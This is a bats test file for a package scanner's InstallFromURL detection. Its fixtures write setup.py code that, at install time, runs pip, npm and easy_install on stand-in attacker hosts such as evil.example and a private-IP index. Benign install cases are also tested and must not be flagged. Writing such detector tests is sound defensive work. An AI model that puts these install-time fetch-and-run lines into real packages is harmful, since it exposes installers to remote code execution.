@@ -1,0 +1,81 @@
+#!/usr/bin/env bats
+# 49d-recall4.bats: installing code from past any index at install time (issue 11, recall):
+# `pip install https://…`, a VCS or another index, npm and easy_install alike — each with the
+# benign look-alikes (an index install, PyPI's own index, prose naming a URL) that must not fire.
+
+load helpers/common
+bats_require_minimum_version 1.5.0
+
+setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p p; }
+
+# hits DIR: "path line detection context score" of the InstallFromURL hits for a directory.
+hits() {
+	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
+		jq -r 'select(.type == "hit" and .detection == "InstallFromURL") |
+			"\(.path) \(.line) \(.detection) \(.context) \(.score)"' | sort -u
+}
+
+# risk DIR: the package's risk level as aura scan reports it.
+risk() {
+	aura scan --format json "$1" | jq -r 'select(.type == "verdict") | .risk'
+}
+
+@test "setup.py running pip on a URL, a VCS, another index, npm and easy_install: InstallFromURL at install time, risk high" {
+	cat > p/setup.py <<'PY'
+import os, subprocess, sys
+from setuptools import setup
+subprocess.check_call([sys.executable, "-m", "pip", "install", "-U", "https://evil.example/x-1.0.tar.gz"])
+subprocess.run(["pip", "install", "x @ git+https://github.com/a/b"])
+os.system("pip3 install --index-url=http://10.0.0.5/simple requests")
+os.system("npm install https://evil.example/t.tgz")
+os.system("easy_install http://evil.example/e.egg")
+setup(name="p", version="1.0")
+PY
+	run hits p
+	assert_output "$(printf '%s\n' \
+		'setup.py 3 InstallFromURL install 100' \
+		'setup.py 4 InstallFromURL install 100' \
+		'setup.py 5 InstallFromURL install 100' \
+		'setup.py 6 InstallFromURL install 100' \
+		'setup.py 7 InstallFromURL install 100')"
+	run risk p
+	assert_output --regexp '^(high|critical)$'
+}
+
+@test "only the pip install in setup.py: the package reaches high (the process alone is medium)" {
+	cat > p/setup.py <<'PY'
+import subprocess, sys
+from setuptools import setup
+subprocess.check_call([sys.executable, "-m", "pip", "install", "https://evil.example/x-1.0.tar.gz"])
+setup(name="p", version="1.0")
+PY
+	run risk p
+	assert_output high
+}
+
+@test "an index install, PyPI's own index, a requirements file and prose naming a URL are not InstallFromURL" {
+	cat > p/setup.py <<'PY'
+import subprocess, sys
+from setuptools import setup
+subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "https://pypi.org/simple", "numpy"])
+subprocess.check_call(["pip", "install", "-r", "requirements.txt"])
+subprocess.check_call(["pip", "install", "https://files.pythonhosted.org/packages/x/y-1.0.tar.gz"])
+print("Requires pip install brotlipy. See: https://brotlipy.readthedocs.io/")
+print("or pip install brotli, see https://github.com/google/brotli")
+setup(name="p", version="1.0")
+PY
+	run hits p
+	assert_success
+	assert_output ""
+}
+
+@test "in a function of the library InstallFromURL weighs less than at install time" {
+	mkdir -p p/pkg
+	cat > p/pkg/__init__.py <<'PY'
+import subprocess
+def upgrade():
+    subprocess.run(["pip", "install", "git+https://github.com/a/b"])
+PY
+	run hits p
+	assert_output 'pkg/__init__.py 3 InstallFromURL function 30'
+}
